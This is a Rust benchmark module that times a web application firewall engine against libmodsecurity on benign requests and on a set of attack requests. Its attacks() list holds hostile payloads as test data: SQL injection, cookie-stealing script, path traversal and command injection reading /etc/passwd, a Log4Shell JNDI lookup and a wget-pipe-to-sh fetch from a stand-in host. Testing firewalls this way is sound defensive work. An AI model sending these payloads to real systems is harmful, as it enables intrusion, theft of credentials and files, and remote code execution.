//! Processor time of a transaction, beside libmodsecurity: the same rules, requests and answers, in turns.
//!
//! Both block, and run the request's and the response's phases. Before anything is measured both have to say the same of each request:
//! an engine that stops early, or runs no rules, would be fast.

use std::hint::black_box;
use std::path::Path;

use anyhow::ensure;
use rustix::time::{ClockId, clock_gettime};
use sakimori_seclang::{Memory, Ruleset};
use sakimori_testkit::peer::{LibModSecurity, Play};
use sakimori_testkit::report::{Report, Target};

use crate::engine::{self, RuleFiles};
use crate::number;

const ON: &str = "SecRuleEngine On\n";

/// Turns of both engines over all requests; of each the middle one counts.
const TURNS: usize = 7;

/// About how long one engine is asked in one turn, in microseconds.
const TURN_MICROS: f64 = 60_000.0;

struct Asked {
    name: &'static str,
    attack: bool,
    plays: Vec<Play>,
}

pub(crate) fn run(rules: &Path) -> anyhow::Result<Report> {
    let files = RuleFiles::find(rules)?;
    let ruleset = files.load(ON)?;
    let mut peer = LibModSecurity::start()?;
    let version = peer.load(&files.for_peer(&[ON]))?;
    println!("{} rules; beside {version}", ruleset.rules());

    let asked = requests();
    for asked in &asked {
        agree(&ruleset, &mut peer, asked)?;
    }
    let mut figures = vec![(Vec::new(), Vec::new()); asked.len()];
    for _ in 0..TURNS {
        for (asked, (ours, theirs)) in asked.iter().zip(&mut figures) {
            ours.push(measure_ours(&ruleset, asked));
            theirs.push(measure_theirs(&mut peer, asked)?);
        }
    }
    let mut report = Report::new("bench waf");
    for (asked, (ours, theirs)) in asked.iter().zip(&mut figures) {
        let (ours, theirs) = (middle(ours), middle(theirs));
        report.add(format!("{}: ours", asked.name), ours, "µs", Target::None);
        report.add(format!("{}: libmodsecurity", asked.name), theirs, "µs", Target::None);
        let target = if asked.attack { Target::None } else { Target::AtLeast(10.0) };
        report.add(format!("{}: times less", asked.name), theirs / ours, "×", target);
    }
    Ok(report)
}

/// That both say the same, and went as far as they had to.
fn agree(ruleset: &Ruleset, peer: &mut LibModSecurity, asked: &Asked) -> anyhow::Result<()> {
    for play in &asked.plays {
        let store = Memory::default();
        let (transaction, phase) = engine::play(ruleset, &store, play);
        let ours = engine::status(transaction.verdict());
        let matched: Vec<u64> = transaction.matches().iter().map(|found| found.rule).collect();
        let theirs = peer.play(play, 1)?;
        let told = String::from_utf8_lossy(&play.target).chars().take(100).collect::<String>();
        ensure!(
            ours == theirs.status && ours.is_some() == asked.attack,
            "{} {told}: ours {ours:?} by {matched:?}, libmodsecurity {:?} by {:?}",
            asked.name,
            theirs.status,
            theirs.rules
        );
        ensure!(
            u64::from(phase) == theirs.phase,
            "{} {told}: phase {phase} and {}",
            asked.name,
            theirs.phase
        );
    }
    Ok(())
}

fn measure_ours(ruleset: &Ruleset, asked: &Asked) -> f64 {
    let store = Memory::default();
    let once = || asked.plays.iter().for_each(|play| drop(black_box(engine::play(ruleset, &store, play))));
    let each = spent(once).max(1.0);
    let rounds = rounds(each);
    spent(|| (0..rounds).for_each(|_| once())) / f64::from(rounds) / number(asked.plays.len())
}

fn measure_theirs(peer: &mut LibModSecurity, asked: &Asked) -> anyhow::Result<f64> {
    let mut sum = 0.0;
    for play in &asked.plays {
        let each = peer.play(play, 1)?.micros * number(asked.plays.len());
        sum += peer.play(play, rounds(each))?.micros;
    }
    Ok(sum / number(asked.plays.len()))
}

/// How often something is done that takes so long.
fn rounds(micros: f64) -> u32 {
    let mut rounds = 1;
    while f64::from(rounds) * micros < TURN_MICROS && rounds < 2000 {
        rounds += 1;
    }
    rounds
}

/// Processor time in microseconds.
fn spent(what: impl FnOnce()) -> f64 {
    let micros = || {
        let now = clock_gettime(ClockId::ThreadCPUTime);
        #[expect(clippy::cast_precision_loss, reason = "some seconds in nanoseconds")]
        let micros = now.tv_sec as f64 * 1e6 + now.tv_nsec as f64 / 1e3;
        micros
    };
    let before = micros();
    what();
    micros() - before
}

fn middle(values: &mut [f64]) -> f64 {
    values.sort_by(f64::total_cmp);
    values.get(values.len() / 2).copied().unwrap_or_default()
}

const FORM: &str = "application/x-www-form-urlencoded";

fn request(method: &str, target: &str, kind: &str, body: String) -> Play {
    let header = |name: &str, value: &str| (name.as_bytes().to_vec(), value.as_bytes().to_vec());
    let mut headers = vec![
        header("Host", "shop.example.org"),
        header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
        header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        header("Accept-Language", "ja,en-US;q=0.7,en;q=0.3"),
    ];
    if !body.is_empty() {
        headers.push(header("Content-Type", kind));
        headers.push(header("Content-Length", &body.len().to_string()));
    }
    Play {
        method: method.into(),
        target: target.into(),
        protocol: b"HTTP/1.1".to_vec(),
        headers,
        body: body.into_bytes(),
        status: 200,
        response_headers: vec![header("Content-Type", "text/html; charset=UTF-8")],
        response_body: page(8),
    }
}

/// A page of so many kilobytes.
fn page(kilobytes: usize) -> Vec<u8> {
    let text =
        "<p>The quick brown fox jumps over the lazy dog and runs through the forest until it is dark.</p>\n";
    let body = text.repeat(kilobytes * 1024 / text.len());
    format!(
        "<!DOCTYPE html>\n<html lang=\"en\"><head><title>Tea</title></head>\n<body>\n{body}</body></html>\n"
    )
    .into_bytes()
}

fn requests() -> Vec<Asked> {
    let words = "the quick brown fox jumps over the lazy dog and runs through the forest until it is dark ";
    let long = words.repeat(10_240 / words.len() + 1).replace(' ', "+");
    let value = "value+of+some+length+in+a+form+that+is+long+enough+to+be+realistic+x+y+z";
    let many: Vec<String> = (0..950).map(|n| format!("field{n}={value}")).collect();
    let item = r#"{"id":17,"name":"Green tea","price":4.5,"tags":["tea","green","japan"],"stock":{"tokyo":12,"osaka":7}}"#;
    let mut json =
        request("POST", "/api/items", "application/json", format!("{{\"items\":[{}]}}", [item; 5].join(",")));
    json.response_headers = vec![(b"Content-Type".to_vec(), b"application/json".to_vec())];
    json.response_body = format!("{{\"saved\":[{}]}}", [item; 5].join(",")).into_bytes();
    let mut wordpress = request("GET", "/2026/11/autumn-in-kyoto/?preview=true&ver=6.8.3", "", String::new());
    wordpress.headers.push((
        b"Cookie".to_vec(),
        b"wordpress_test_cookie=WP%20Cookie%20check; wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce; \
          wp-settings-time-1=1790000000; wordpress_logged_in_5c016e8f0f95f039102cbe8366c5c7f3=hanako%7C1790172800%7CaBcDeFgHiJkLmNoP"
            .to_vec(),
    ));
    wordpress.headers.push((b"Referer".to_vec(), b"http://shop.example.org/wp-admin/edit.php".to_vec()));
    wordpress.response_body = page(60);
    let benign = |name, play| Asked { name, attack: false, plays: vec![play] };
    vec![
        benign("GET, 2 arguments", request("GET", "/shop/search?q=green+tea&page=2", "", String::new())),
        benign("argument of 10 kB", request("POST", "/api/note", FORM, format!("text={long}"))),
        benign("950 arguments", request("POST", "/api/note", FORM, many.join("&"))),
        benign("JSON call", json),
        benign("WordPress page", wordpress),
        Asked { name: "attacks", attack: true, plays: attacks() },
    ]
}

fn attacks() -> Vec<Play> {
    let get = |target: &str| request("GET", target, "", String::new());
    let post = |body: &str| request("POST", "/login", FORM, body.to_owned());
    let mut leak = get("/shop/item?id=5");
    leak.status = 200;
    leak.response_body =
        b"<b>Warning</b>: You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax"
            .to_vec();
    vec![
        get("/shop/search?q=1%27%20UNION%20SELECT%20user%2Cpassword%20FROM%20users--&page=2"),
        get("/shop/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
        get("/download?file=../../../../etc/passwd"),
        get("/ping?host=127.0.0.1%3Bcat%20/etc/passwd"),
        get("/index.php?page=php://filter/convert.base64-encode/resource=index"),
        get("/?x=%24%7Bjndi:ldap://192.0.2.66/a%7D"),
        post("user=admin%27+OR+%271%27%3D%271&password=x"),
        post("user=hanako&note=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"),
        post("user=a&cmd=%3B+wget+http%3A%2F%2F192.0.2.66%2Fx.sh+%7C+sh"),
        leak,
    ]
}
